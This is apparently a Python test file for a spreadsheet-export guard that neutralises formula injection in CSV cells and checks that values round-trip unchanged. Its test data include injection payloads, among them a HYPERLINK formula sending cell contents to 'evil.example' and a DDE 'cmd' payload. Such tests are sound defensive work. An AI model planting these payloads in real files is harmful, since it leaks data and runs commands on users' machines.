"""Files that a spreadsheet opens: no cell of theirs is a formula, and nothing is lost by that."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zhanggui.base.spreadsheets import MARK, lines, meant, plain

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "  =1",
    "\t=1",
    "\n=1",
    "\r\n@x",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "\N{ZERO WIDTH SPACE}\N{WORD JOINER}＝1",
    "\N{IDEOGRAPHIC SPACE}\N{NO-BREAK SPACE}-x",
    "\N{SOFT HYPHEN}\N{RIGHT-TO-LEFT MARK}+x",
    "\x00=1",
    "-",
    "+8613800138000",
]
TEXTS = ["", "茶", "a=1", "1-1", "'quoted'", "ann@example.com", "-5", "-12.50", "3.5", "—"]
SIGNS = st.sampled_from("=+-@＝＋－＠' \t\n\ufeff\u200b15.a茶")


@pytest.mark.parametrize("said", FORMULAS, ids=ascii)
def test_what_begins_like_a_formula_is_written_as_text(said: str) -> None:
    assert plain(said) == f"'{said}"


@pytest.mark.parametrize("said", TEXTS, ids=ascii)
def test_any_other_text_stands_as_it_is(said: str) -> None:
    assert plain(said) == said


@given(st.text(SIGNS) | st.text())
def test_what_goes_out_comes_in_as_it_was(said: str) -> None:
    assert meant(plain(said)) == said


@pytest.mark.parametrize(("cell", "said"), [("'=1", "=1"), ("''=1", "'=1"), ("'n' roll", "'n' roll"), ("=1", "=1")])
def test_only_a_guard_is_taken_off(cell: str, said: str) -> None:
    assert meant(cell) == said


def test_a_file_guards_texts_and_heads_and_leaves_figures() -> None:
    file = "".join(lines(["=head", "n"], [("＝1+1", -5), ("a,b", None)]))

    assert file.startswith(MARK)
    assert list(csv.reader(file.removeprefix(MARK).splitlines())) == [["'=head", "n"], ["'＝1+1", "-5"], ["a,b", ""]]
